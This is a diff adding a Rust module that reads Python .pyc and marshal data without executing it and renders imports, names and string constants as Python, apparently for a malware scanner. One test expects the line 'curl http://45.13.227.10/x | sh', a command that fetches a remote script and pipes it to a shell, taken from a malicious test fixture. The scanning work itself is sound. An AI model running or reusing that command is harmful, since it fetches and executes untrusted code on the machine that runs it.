@@ -0,0 +1,846 @@
+use std::collections::HashSet;
+
+use crate::{Result, ScoutError};
+
+/// Deeper nesting than this is treated as malformed. CPython allows 2000 levels, but
+/// compiled code doesn't come close to it.
+const MAX_DEPTH: usize = 200;
+/// Nested code objects deeper than this are written out without a `def`, so the
+/// generated source doesn't get too deeply indented to parse.
+const MAX_NESTING: usize = 16;
+const FLAG_REF: u8 = 0x80;
+
+/// A value read from marshal data. Only what is needed to find names and constants is
+/// kept, numbers and other scalars are read past.
+#[derive(Debug)]
+enum Object {
+    Other,
+    Bytes(Vec<u8>),
+    Str(String),
+    /// Tuples, lists, sets and frozensets
+    Collection(Vec<Object>),
+    Dict(Vec<(Object, Object)>),
+    Code(Box<Code>),
+    /// An object that was flagged to be referenced again, stored in the reference table
+    Ref(usize),
+}
+
+/// A compiled code object, e.g. a module, function or class body.
+#[derive(Debug)]
+struct Code {
+    name: String,
+    filename: String,
+    first_line: u32,
+    bytecode: Vec<u8>,
+    consts: Object,
+    names: Vec<String>,
+    /// The names of the local variables, for `LOAD_FAST` and `STORE_FAST`
+    locals: Vec<String>,
+}
+
+/// The fields of a code object changed in 3.8 and again in 3.11.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+enum Layout {
+    Py36,
+    Py38,
+    Py311,
+}
+
+impl Layout {
+    fn for_version(minor: u8) -> Layout {
+        match minor {
+            0..=7 => Layout::Py36,
+            8..=10 => Layout::Py38,
+            _ => Layout::Py311,
+        }
+    }
+}
+
+/// The Python 3 minor version a `.pyc` magic number belongs to. Versions before 3.6
+/// don't use two byte instructions and aren't supported.
+fn pyc_version(magic: u16) -> Option<u8> {
+    match magic {
+        3360..=3379 => Some(6),
+        3390..=3399 => Some(7),
+        3400..=3419 => Some(8),
+        3420..=3429 => Some(9),
+        3430..=3449 => Some(10),
+        3450..=3499 => Some(11),
+        3500..=3549 => Some(12),
+        3550..=3599 => Some(13),
+        _ => None,
+    }
+}
+
+struct Reader<'a> {
+    data: &'a [u8],
+    pos: usize,
+    layout: Layout,
+    refs: Vec<Object>,
+    depth: usize,
+}
+
+impl<'a> Reader<'a> {
+    fn new(data: &'a [u8], layout: Layout) -> Self {
+        Self {
+            data,
+            pos: 0,
+            layout,
+            refs: vec![],
+            depth: 0,
+        }
+    }
+
+    fn take(&mut self, n: usize) -> Result<&'a [u8]> {
+        if n > self.data.len() - self.pos {
+            return Err(ScoutError::parse(format!(
+                "Marshal data ends early at offset {}",
+                self.pos
+            )));
+        }
+        let bytes = &self.data[self.pos..self.pos + n];
+        self.pos += n;
+        Ok(bytes)
+    }
+
+    fn byte(&mut self) -> Result<u8> {
+        Ok(self.take(1)?[0])
+    }
+
+    fn u32(&mut self) -> Result<u32> {
+        let bytes = self.take(4)?;
+        Ok(u32::from_le_bytes([bytes[0], bytes[1], bytes[2], bytes[3]]))
+    }
+
+    /// A length that has to fit in the rest of the data, so a corrupt length can't make
+    /// the reader allocate more than the input. Every element takes at least one byte.
+    fn len(&mut self) -> Result<usize> {
+        let len = self.u32()? as usize;
+        if len > self.data.len() - self.pos {
+            return Err(ScoutError::parse(format!(
+                "Invalid length {} at offset {}",
+                len, self.pos
+            )));
+        }
+        Ok(len)
+    }
+
+    fn resolve<'o>(&'o self, obj: &'o Object) -> &'o Object {
+        match obj {
+            Object::Ref(idx) => &self.refs[*idx],
+            _ => obj,
+        }
+    }
+
+    fn string(&self, obj: &Object) -> Result<String> {
+        match self.resolve(obj) {
+            Object::Str(value) => Ok(value.to_owned()),
+            _ => Err(ScoutError::parse("Expected a string in code object")),
+        }
+    }
+
+    fn strings(&self, obj: &Object) -> Result<Vec<String>> {
+        match self.resolve(obj) {
+            Object::Collection(items) => items.iter().map(|item| self.string(item)).collect(),
+            _ => Err(ScoutError::parse(
+                "Expected a tuple of names in code object",
+            )),
+        }
+    }
+
+    fn collection(&mut self, len: usize) -> Result<Object> {
+        let items = (0..len)
+            .map(|_| self.object())
+            .collect::<Result<Vec<Object>>>()?;
+        Ok(Object::Collection(items))
+    }
+
+    fn object(&mut self) -> Result<Object> {
+        if self.depth >= MAX_DEPTH {
+            return Err(ScoutError::parse("Marshal data is nested too deeply"));
+        }
+        self.depth += 1;
+        let result = self.read_object();
+        self.depth -= 1;
+        result
+    }
+
+    fn read_object(&mut self) -> Result<Object> {
+        let code = self.byte()?;
+        let (kind, flagged) = (code & !FLAG_REF, code & FLAG_REF != 0);
+
+        // the slot is reserved first, containers can be referenced before they are read
+        let slot = if flagged {
+            self.refs.push(Object::Other);
+            Some(self.refs.len() - 1)
+        } else {
+            None
+        };
+
+        let obj = match kind {
+            b'0' | b'N' | b'F' | b'T' | b'S' | b'.' => Object::Other,
+            b'i' => {
+                self.take(4)?;
+                Object::Other
+            }
+            b'I' | b'g' => {
+                self.take(8)?;
+                Object::Other
+            }
+            b'y' => {
+                self.take(16)?;
+                Object::Other
+            }
+            b'f' => {
+                let len = self.byte()? as usize;
+                self.take(len)?;
+                Object::Other
+            }
+            b'x' => {
+                for _ in 0..2 {
+                    let len = self.byte()? as usize;
+                    self.take(len)?;
+                }
+                Object::Other
+            }
+            b'l' => {
+                // the sign of the digit count is the sign of the number
+                let digits = (self.u32()? as i32).unsigned_abs() as usize;
+                self.take(
+                    digits
+                        .checked_mul(2)
+                        .ok_or_else(|| ScoutError::parse("Invalid integer size"))?,
+                )?;
+                Object::Other
+            }
+            b's' => {
+                let len = self.len()?;
+                Object::Bytes(self.take(len)?.to_vec())
+            }
+            b't' | b'u' | b'a' | b'A' => {
+                let len = self.len()?;
+                Object::Str(String::from_utf8_lossy(self.take(len)?).into_owned())
+            }
+            b'z' | b'Z' => {
+                let len = self.byte()? as usize;
+                Object::Str(String::from_utf8_lossy(self.take(len)?).into_owned())
+            }
+            b'(' | b'[' | b'<' | b'>' => {
+                let len = self.len()?;
+                self.collection(len)?
+            }
+            b')' => {
+                let len = self.byte()? as usize;
+                self.collection(len)?
+            }
+            b'{' => {
+                let mut items = vec![];
+                loop {
+                    // a null key ends the dict
+                    if self.data.get(self.pos) == Some(&b'0') {
+                        self.pos += 1;
+                        break;
+                    }
+                    let key = self.object()?;
+                    let value = self.object()?;
+                    items.push((key, value));
+                }
+                Object::Dict(items)
+            }
+            b'r' => {
+                let idx = self.u32()? as usize;
+                if idx >= self.refs.len() {
+                    return Err(ScoutError::parse(format!(
+                        "Invalid reference {} in marshal data",
+                        idx
+                    )));
+                }
+                return Ok(Object::Ref(idx));
+            }
+            b'c' => Object::Code(Box::new(self.code()?)),
+            other => {
+                return Err(ScoutError::parse(format!(
+                    "Unknown marshal type {:?} at offset {}",
+                    other as char,
+                    self.pos - 1
+                )))
+            }
+        };
+
+        match slot {
+            Some(idx) => {
+                self.refs[idx] = obj;
+                Ok(Object::Ref(idx))
+            }
+            None => Ok(obj),
+        }
+    }
+
+    fn code(&mut self) -> Result<Code> {
+        // argument counts, stack size and flags
+        let counts = match self.layout {
+            Layout::Py38 => 6,
+            _ => 5,
+        };
+        self.take(counts * 4)?;
+
+        let bytecode = self.object()?;
+        let bytecode = match self.resolve(&bytecode) {
+            Object::Bytes(bytes) => bytes.to_owned(),
+            _ => return Err(ScoutError::parse("Expected bytecode in code object")),
+        };
+        let consts = self.object()?;
+        let names = self.object()?;
+        let names = self.strings(&names)?;
+
+        // local names and their kinds, or the local, free and cell variables
+        let locals = self.object()?;
+        let locals = self.strings(&locals)?;
+        let rest = match self.layout {
+            Layout::Py311 => 1,
+            _ => 2,
+        };
+        for _ in 0..rest {
+            self.object()?;
+        }
+
+        let filename = self.object()?;
+        let filename = self.string(&filename)?;
+        let name = self.object()?;
+        let name = self.string(&name)?;
+        if self.layout == Layout::Py311 {
+            let qualname = self.object()?;
+            self.string(&qualname)?;
+        }
+        let first_line = self.u32()?;
+
+        // the line table, and the exception table since 3.11
+        self.object()?;
+        if self.layout == Layout::Py311 {
+            self.object()?;
+        }
+
+        Ok(Code {
+            name,
+            filename,
+            first_line,
+            bytecode,
+            consts,
+            names,
+            locals,
+        })
+    }
+}
+
+/// The opcodes that load names, attributes and imports, which were renumbered in 3.13.
+struct Opcodes {
+    load_name: u8,
+    load_global: u8,
+    load_attr: u8,
+    load_method: Option<u8>,
+    load_fast: &'static [u8],
+    store_fast: u8,
+    import_name: u8,
+    import_from: u8,
+    store_name: u8,
+    store_global: u8,
+    extended_arg: u8,
+    /// Since 3.11 the lowest bit of the argument of `LOAD_GLOBAL` is a flag
+    global_flag: bool,
+    /// Since 3.12 the lowest bit of the argument of `LOAD_ATTR` is a flag
+    attr_flag: bool,
+}
+
+impl Opcodes {
+    fn for_version(minor: u8) -> Opcodes {
+        if minor >= 13 {
+            return Opcodes {
+                load_name: 92,
+                load_global: 91,
+                load_attr: 82,
+                load_method: None,
+                load_fast: &[85, 87],
+                store_fast: 110,
+                import_name: 75,
+                import_from: 74,
+                store_name: 114,
+                store_global: 113,
+                extended_arg: 71,
+                global_flag: true,
+                attr_flag: true,
+            };
+        }
+        Opcodes {
+            load_name: 101,
+            load_global: 116,
+            load_attr: 106,
+            load_method: (7..=11).contains(&minor).then_some(160),
+            load_fast: if minor >= 12 { &[124, 127] } else { &[124] },
+            store_fast: 125,
+            import_name: 108,
+            import_from: 109,
+            store_name: 90,
+            store_global: 97,
+            extended_arg: 144,
+            global_flag: minor >= 11,
+            attr_flag: minor >= 12,
+        }
+    }
+}
+
+/// An import being read from the bytecode, it's only known how it is bound once the
+/// instructions after it are seen.
+struct PendingImport<'c> {
+    module: &'c str,
+    name: Option<&'c str>,
+    from: bool,
+}
+
+impl<'c> PendingImport<'c> {
+    fn statement(&self, alias: Option<&str>) -> Option<String> {
+        let module = self.module;
+        match self.name {
+            Some(name) => {
+                let module = if module.is_empty() { "." } else { module };
+                match alias.filter(|alias| *alias != name) {
+                    Some(alias) => Some(format!("from {} import {} as {}", module, name, alias)),
+                    None => Some(format!("from {} import {}", module, name)),
+                }
+            }
+            None if module.is_empty() || self.from => None,
+            None => {
+                let base = module.split('.').next().unwrap_or_default();
+                match alias.filter(|alias| *alias != base) {
+                    Some(alias) => Some(format!("import {} as {}", module, alias)),
+                    None => Some(format!("import {}", module)),
+                }
+            }
+        }
+    }
+}
+
+/// Compiled Python read from a `.pyc` file or a `marshal.dumps` blob. Nothing in it is
+/// ever executed, the bytecode is only scanned for the names it loads and imports.
+#[derive(Debug)]
+pub struct Marshal {
+    minor: u8,
+    root: Object,
+    refs: Vec<Object>,
+}
+
+impl Marshal {
+    fn read(data: &[u8], minor: u8) -> Result<Marshal> {
+        let mut reader = Reader::new(data, Layout::for_version(minor));
+        let root = reader.object()?;
+        let marshal = Marshal {
+            minor,
+            root,
+            refs: reader.refs,
+        };
+        match marshal.code(&marshal.root) {
+            Some(_) => Ok(marshal),
+            None => Err(ScoutError::parse("The marshal data is not a code object")),
+        }
+    }
+
+    /// Reads a `.pyc` file, the Python version is taken from the magic number.
+    pub fn read_pyc(data: &[u8]) -> Result<Marshal> {
+        if data.len() < 16 || &data[2..4] != b"\r\n" {
+            return Err(ScoutError::parse("Not a .pyc file"));
+        }
+        let magic = u16::from_le_bytes([data[0], data[1]]);
+        let minor = match pyc_version(magic) {
+            Some(minor) => minor,
+            None => {
+                return Err(ScoutError::parse(format!(
+                    "Unsupported .pyc magic number {}",
+                    magic
+                )))
+            }
+        };
+        // flags and a timestamp or hash since 3.7, a timestamp and size before
+        let header = if minor >= 7 { 16 } else { 12 };
+        Marshal::read(&data[header..], minor)
+    }
+
+    /// Reads the data passed to `marshal.loads`, which has no version in it. The code
+    /// object layouts are tried newest first, and the first instruction tells 3.11,
+    /// 3.12 and 3.13 apart.
+    pub fn loads(data: &[u8]) -> Result<Marshal> {
+        let mut last_err = None;
+        for minor in [12, 10, 7] {
+            match Marshal::read(data, minor) {
+                Ok(mut marshal) => {
+                    if minor == 12 {
+                        marshal.minor = marshal.guess_version();
+                    }
+                    return Ok(marshal);
+                }
+                Err(err) => last_err = Some(err),
+            }
+        }
+        Err(last_err.unwrap())
+    }
+
+    /// Code since 3.11 starts with `RESUME`, which is 149 in 3.13 and 151 before, and
+    /// only 3.11 has `PRECALL`.
+    fn guess_version(&self) -> u8 {
+        let code = match self.code(&self.root) {
+            Some(code) => code,
+            None => return 12,
+        };
+        if code.bytecode.first() == Some(&149) {
+            13
+        } else if code.bytecode.chunks_exact(2).any(|ins| ins[0] == 166) {
+            11
+        } else {
+            12
+        }
+    }
+
+    fn resolve<'o>(&'o self, obj: &'o Object) -> &'o Object {
+        match obj {
+            Object::Ref(idx) => &self.refs[*idx],
+            _ => obj,
+        }
+    }
+
+    fn code<'o>(&'o self, obj: &'o Object) -> Option<&'o Code> {
+        match self.resolve(obj) {
+            Object::Code(code) => Some(code),
+            _ => None,
+        }
+    }
+
+    /// The string and bytes constants and the code objects in a constant, in order.
+    fn constants<'o>(
+        &'o self,
+        obj: &'o Object,
+        seen: &mut HashSet<usize>,
+        out: &mut Vec<&'o Object>,
+    ) {
+        if let Object::Ref(idx) = obj {
+            // shared constants are only listed once, which also stops reference cycles
+            if !seen.insert(*idx) {
+                return;
+            }
+        }
+        match self.resolve(obj) {
+            item @ (Object::Str(_) | Object::Bytes(_) | Object::Code(_)) => out.push(item),
+            Object::Collection(items) => items
+                .iter()
+                .for_each(|item| self.constants(item, seen, out)),
+            Object::Dict(items) => items.iter().for_each(|(key, value)| {
+                self.constants(key, seen, out);
+                self.constants(value, seen, out);
+            }),
+            _ => {}
+        }
+    }
+
+    /// The imports and the dotted names loaded by the bytecode, in the order they are
+    /// first seen. Loaded names are written as calls, since that is what rules match.
+    fn statements<'c>(&self, code: &'c Code) -> Vec<String> {
+        let ops = Opcodes::for_version(self.minor);
+        let name = |idx: u32| {
+            code.names
+                .get(idx as usize)
+                .map(|name| name.as_str())
+                .filter(|name| name.is_empty() || is_name(name))
+        };
+        let local = |idx: u32| {
+            code.locals
+                .get(idx as usize)
+                .map(|name| name.as_str())
+                .filter(|name| is_name(name))
+        };
+
+        let mut statements: Vec<String> = vec![];
+        let mut chain: Vec<&'c str> = vec![];
+        let mut import: Option<PendingImport<'c>> = None;
+        let mut extended: u32 = 0;
+
+        let flush = |chain: &mut Vec<&str>, statements: &mut Vec<String>| {
+            if !chain.is_empty() {
+                statements.push(format!("{}()", chain.join(".")));
+                chain.clear();
+            }
+        };
+
+        for ins in code.bytecode.chunks_exact(2) {
+            let (op, arg) = (ins[0], extended | ins[1] as u32);
+            if op == ops.extended_arg {
+                extended = arg << 8;
+                continue;
+            }
+            extended = 0;
+
+            if op == 0 && self.minor >= 11 {
+                // inline cache entries
+                continue;
+            } else if op == ops.load_name || op == ops.load_global {
+                flush(&mut chain, &mut statements);
+                let arg = if op == ops.load_global && ops.global_flag {
+                    arg >> 1
+                } else {
+                    arg
+                };
+                chain.extend(name(arg));
+            } else if ops.load_fast.contains(&op) {
+                flush(&mut chain, &mut statements);
+                chain.extend(local(arg));
+            } else if (op == ops.load_attr || Some(op) == ops.load_method) && !chain.is_empty() {
+                let arg = if op == ops.load_attr && ops.attr_flag {
+                    arg >> 1
+                } else {
+                    arg
+                };
+                chain.extend(name(arg));
+            } else if op == ops.import_name {
+                flush(&mut chain, &mut statements);
+                if let Some(pending) = import.take() {
+                    statements.extend(pending.statement(None));
+                }
+                import = name(arg).map(|module| PendingImport {
+                    module,
+                    name: None,
+                    from: false,
+                });
+            } else if let (true, Some(pending)) = (op == ops.import_from, import.as_mut()) {
+                if pending.name.is_some() {
+                    statements.extend(pending.statement(None));
+                }
+                pending.name = name(arg);
+                pending.from = true;
+            } else {
+                flush(&mut chain, &mut statements);
+                let alias = if op == ops.store_name || op == ops.store_global {
+                    name(arg)
+                } else if op == ops.store_fast {
+                    local(arg)
+                } else {
+                    None
+                };
+                match import.take() {
+                    // more names can follow in `from x import a, b`
+                    Some(mut pending) if pending.name.is_some() => {
+                        statements.extend(pending.statement(alias));
+                        pending.name = None;
+                        import = Some(pending);
+                    }
+                    Some(pending) => statements.extend(pending.statement(alias)),
+                    None => {}
+                }
+            }
+        }
+        flush(&mut chain, &mut statements);
+        if let Some(pending) = import {
+            statements.extend(pending.statement(None));
+        }
+
+        let mut seen: HashSet<String> = HashSet::new();
+        statements.retain(|statement| seen.insert(statement.to_owned()));
+        statements
+    }
+
+    fn write_code(
+        &self,
+        code: &Code,
+        depth: usize,
+        seen: &mut HashSet<usize>,
+        out: &mut Vec<String>,
+    ) {
+        let indent = "    ".repeat(depth.min(MAX_NESTING));
+        let start = out.len();
+
+        out.push(format!(
+            "{}# code object {} from {}, line {}",
+            indent,
+            python_literal(&code.name),
+            python_literal(&code.filename),
+            code.first_line
+        ));
+        for statement in self.statements(code) {
+            out.push(format!("{}{}", indent, statement));
+        }
+
+        let mut constants: Vec<&Object> = vec![];
+        self.constants(&code.consts, seen, &mut constants);
+        let mut strings: HashSet<&str> = HashSet::new();
+        for constant in constants.iter() {
+            match constant {
+                Object::Str(value) if !value.is_empty() && strings.insert(value) => {
+                    out.push(format!("{}{}", indent, python_literal(value)))
+                }
+                Object::Bytes(value) if !value.is_empty() => {
+                    out.push(format!("{}{}", indent, bytes_literal(value)))
+                }
+                _ => {}
+            }
+        }
+
+        for constant in constants {
+            if let Object::Code(nested) = constant {
+                if depth < MAX_NESTING {
+                    out.push(format!("{}def {}():", indent, identifier(&nested.name)));
+                }
+                self.write_code(nested, depth + 1, seen, out);
+            }
+        }
+
+        if out.len() == start + 1 {
+            out.push(format!("{}pass", indent));
+        }
+    }
+
+    /// Python source with the imports, loaded names and string constants of every code
+    /// object, with nested code objects as functions. It is meant to be analysed like a
+    /// regular file, not to behave like the original.
+    pub fn to_python(&self) -> String {
+        let mut out: Vec<String> = vec![];
+        if let Some(code) = self.code(&self.root) {
+            self.write_code(code, 0, &mut HashSet::new(), &mut out);
+        }
+        out.push(String::from(""));
+        out.join("\n")
+    }
+}
+
+/// Python keywords, which can't be used as names.
+const KEYWORDS: [&str; 35] = [
+    "False", "None", "True", "and", "as", "assert", "async", "await", "break", "class", "continue",
+    "def", "del", "elif", "else", "except", "finally", "for", "from", "global", "if", "import",
+    "in", "is", "lambda", "nonlocal", "not", "or", "pass", "raise", "return", "try", "while",
+    "with", "yield",
+];
+
+/// Code object names like `<lambda>` or `<module>` turned into identifiers, a keyword
+/// like `if` becomes `if_`.
+fn identifier(name: &str) -> String {
+    let name: String = name
+        .chars()
+        .map(|c| {
+            if c.is_alphanumeric() || c == '_' {
+                c
+            } else {
+                '_'
+            }
+        })
+        .collect();
+    let name = match name.chars().next() {
+        Some(c) if !c.is_ascii_digit() => name,
+        _ => format!("_{}", name),
+    };
+    if KEYWORDS.contains(&name.as_str()) {
+        format!("{}_", name)
+    } else {
+        name
+    }
+}
+
+/// Whether the name, or every part of a dotted module name, is a valid identifier that
+/// isn't a keyword. The compiler never writes other names, so they are left out instead
+/// of breaking the generated source.
+fn is_name(name: &str) -> bool {
+    name.split('.').all(|part| identifier(part) == part)
+}
+
+fn python_literal(value: &str) -> String {
+    let mut out = String::from("\"");
+    for c in value.chars() {
+        match c {
+            '\\' => out.push_str("\\\\"),
+            '"' => out.push_str("\\\""),
+            '\n' => out.push_str("\\n"),
+            '\r' => out.push_str("\\r"),
+            '\t' => out.push_str("\\t"),
+            c if c.is_control() => out.push_str(&format!("\\u{:04x}", c as u32)),
+            c => out.push(c),
+        }
+    }
+    out.push('"');
+    out
+}
+
+fn bytes_literal(value: &[u8]) -> String {
+    let mut out = String::from("b\"");
+    for &b in value {
+        match b {
+            b'\\' => out.push_str("\\\\"),
+            b'"' => out.push_str("\\\""),
+            b' '..=b'~' => out.push(b as char),
+            b => out.push_str(&format!("\\x{:02x}", b)),
+        }
+    }
+    out.push('"');
+    out
+}
+
+#[cfg(test)]
+mod tests {
+    use rustpython_parser::parser;
+
+    use super::{Code, Marshal, Object, Opcodes};
+
+    #[test]
+    fn test_reads_pyc_imports_and_names() {
+        let data = std::fs::read("../examples/files/test-compiled.cpython-311.pyc").unwrap();
+        let source = Marshal::read_pyc(&data).unwrap().to_python();
+
+        for line in [
+            "import base64",
+            "from subprocess import Popen as P",
+            "base64.b64decode()",
+            "    import os",
+            "    os.system()",
+            "    P()",
+            "    \"curl http://45.13.227.10/x | sh\"",
+        ] {
+            assert!(
+                source.lines().any(|l| l == line),
+                "missing {:?} in:\n{}",
+                line,
+                source
+            );
+        }
+    }
+
+    #[test]
+    fn test_rejects_bad_data() {
+        assert!(Marshal::loads(b"").is_err());
+        assert!(Marshal::loads(b"\xe3\xff\xff\xff\xff").is_err());
+        // a tuple claiming more items than there are bytes
+        assert!(Marshal::loads(b"(\xff\xff\xff\x7f").is_err());
+        assert!(Marshal::read_pyc(b"not a pyc file at all").is_err());
+    }
+
+    #[test]
+    fn test_keyword_names_still_parse() {
+        let load_name = Opcodes::for_version(12).load_name;
+        let code = |name: &str, names: Vec<&str>, consts: Vec<Object>| Code {
+            name: name.to_owned(),
+            filename: String::from("crafted.py"),
+            first_line: 1,
+            bytecode: vec![load_name, 0, load_name, 1],
+            consts: Object::Collection(consts),
+            names: names.into_iter().map(String::from).collect(),
+            locals: vec![],
+        };
+        let nested = code("if", vec!["class", "os"], vec![]);
+        let marshal = Marshal {
+            minor: 12,
+            root: Object::Code(Box::new(code(
+                "<module>",
+                vec!["return", "subprocess"],
+                vec![Object::Code(Box::new(nested))],
+            ))),
+            refs: vec![],
+        };
+
+        let source = marshal.to_python();
+        assert!(source.contains("def if_():"), "{}", source);
+        assert!(source.contains("subprocess()"), "{}", source);
+        assert!(!source.contains("return()"), "{}", source);
+        assert!(parser::parse_program(&source).is_ok(), "{}", source);
+    }
+}